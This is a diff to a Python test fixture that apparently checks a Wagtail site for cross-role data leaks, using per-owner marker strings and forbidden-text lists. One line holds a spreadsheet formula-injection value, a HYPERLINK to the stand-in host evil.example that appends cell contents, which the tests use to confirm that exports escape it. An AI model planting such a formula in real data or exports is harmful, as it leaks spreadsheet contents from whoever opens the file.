@@ -19,6 +19,7 @@ from PIL import Image as PILImage
 from wagtail.contrib.redirects.models import Redirect
 from wagtail.documents import get_document_model
 from wagtail.images import get_image_model
+from wagtail.log_actions import log
 from wagtail.models import Collection, Page, Site, Task, Workflow
 
 from accounts.models import User
@@ -40,17 +41,39 @@ from tests.factories import (
     make_post,
     make_user,
 )
-from tests.security.urlwalk import ParamFiller
+from tests.security.urlwalk import ParamFiller, Probes
 
-# Unique text in user A's objects: it must never appear on a page B or an editor gets.
+# Unique text in each owner's objects: it must never reach another owner or an
+# editor; the draft's title reaches only those who may edit pages.
 MARKER_A = "Owner-A-7f3c"
+MARKER_B = "Owner-B-2e61"
+DRAFT_TITLE = "Draft probe"
 ROLES = ("anonymous", "user_a", "user_b", "manager", "editor", "blocked", "superuser")
+FORBIDDEN = {
+    "anonymous": (MARKER_A, MARKER_B, DRAFT_TITLE),
+    "blocked": (MARKER_A, MARKER_B, DRAFT_TITLE),
+    "user_a": (MARKER_B, DRAFT_TITLE),
+    "user_b": (MARKER_A, DRAFT_TITLE),
+    "manager": (DRAFT_TITLE,),
+    "editor": (MARKER_A, MARKER_B),
+    "superuser": (),
+}
+# A client of A's named like a formula, with a control character XLSX cannot hold:
+# every export must escape the one and survive the other.
+FORMULA_NAME = f'=HYPERLINK("http://evil.example/?"&A1,"{MARKER_A}")\x0b'
 
 
 def tiny_png(name: str = "probe.png") -> ImageFile:
     buffer = io.BytesIO()
     PILImage.new("RGB", (8, 8), "white").save(buffer, "PNG")
     return ImageFile(io.BytesIO(buffer.getvalue()), name=name)
+
+
+def signed_in(user: User, **kwargs) -> HttpClient:
+    """A browser of `user`'s; a server error is an answer (500), not an exception."""
+    http = HttpClient(raise_request_exception=False, **kwargs)
+    http.force_login(user)
+    return http
 
 
 def owned_objects(owner: User, tag: str) -> dict:
@@ -94,6 +117,25 @@ class World:
     def markers_a(self) -> list[str]:
         return [MARKER_A]
 
+    def forbidden_markers(self, role: str) -> tuple[str, ...]:
+        return FORBIDDEN[role]
+
+    def probes(self) -> Probes:
+        """Ids of both owners' objects (and the draft) for query strings."""
+
+        def ids(model) -> list[int]:
+            if issubclass(model, Page):
+                return [self.extra["draft"].pk, self.page.pk]
+            owned = [
+                objects[known].pk
+                for objects in (self.objects_a, self.objects_b)
+                for known in objects
+                if issubclass(model, known)
+            ]
+            return owned or [self.filler()._object_for(model).pk]
+
+        return Probes(ids=ids, searches=("Owner", "Draft"))
+
     def client_for(self, role: str, **kwargs) -> HttpClient:
         http = HttpClient(**kwargs)
         user = self.users[role]
@@ -106,7 +148,7 @@ class World:
         return ParamFiller(by_model, self.extra["by_name"], owner=self.users["user_a"])
 
 
-def _route_params(world_page: Page, revision, image, document, user_b) -> dict:
+def _route_params(world_page: Page, revision, image, document, user_b, blog) -> dict:
     """Parameter values that depend on which route they appear in."""
     page_model = world_page.specific_class._meta
 
@@ -150,10 +192,16 @@ def _route_params(world_page: Page, revision, image, document, user_b) -> dict:
             return document.filename
         return None
 
+    def parent_page(route):
+        # The chooser opened where the draft is, as an editor linking to it would.
+        if route.name == "wagtailadmin_choose_page_child":
+            return blog
+        return world_page
+
     return {
         "pk": pk,
         "page_id": world_page,
-        "parent_page_id": world_page,
+        "parent_page_id": parent_page,
         "page_to_move_id": world_page,
         "destination_id": world_page,
         "page_pk": world_page,
@@ -209,13 +257,14 @@ def world(db) -> World:
         users=users,
         page=page,
         objects_a=owned_objects(user_a, MARKER_A),
-        objects_b=owned_objects(users["user_b"], "Owner-B-2e61"),
+        objects_b=owned_objects(users["user_b"], MARKER_B),
     )
     world.extra["blog"] = blog
     world.extra["post"] = make_post(blog, title="Post probe", slug="post-probe")
     world.extra["draft"] = make_post(
-        blog, title="Draft probe", slug="draft-probe", publish=False
+        blog, title=DRAFT_TITLE, slug="draft-probe", publish=False
     )
+    log_history(world)
     world.extra["by_model"] = {
         User: users["user_b"],
         Group: Group.objects.get(name="Mailing users"),
@@ -224,6 +273,17 @@ def world(db) -> World:
         Page: page,
     }
     world.extra["by_name"] = _route_params(
-        page, revision, image, document, users["user_b"]
+        page, revision, image, document, users["user_b"], blog
     )
     return world
+
+
+def log_history(world: World) -> None:
+    """What the site history shows: each owner's work, a manager's moderation."""
+    user_a, user_b = world.users["user_a"], world.users["user_b"]
+    formula = make_client(user_a, email="formula@example.org", full_name=FORMULA_NAME)
+    for obj in (*world.objects_a.values(), formula):
+        log(obj, "wagtail.create", user=user_a)
+    for obj in world.objects_b.values():
+        log(obj, "wagtail.create", user=user_b)
+    log(world.objects_a[Mailing], "mailing.disable", user=world.users["manager"])
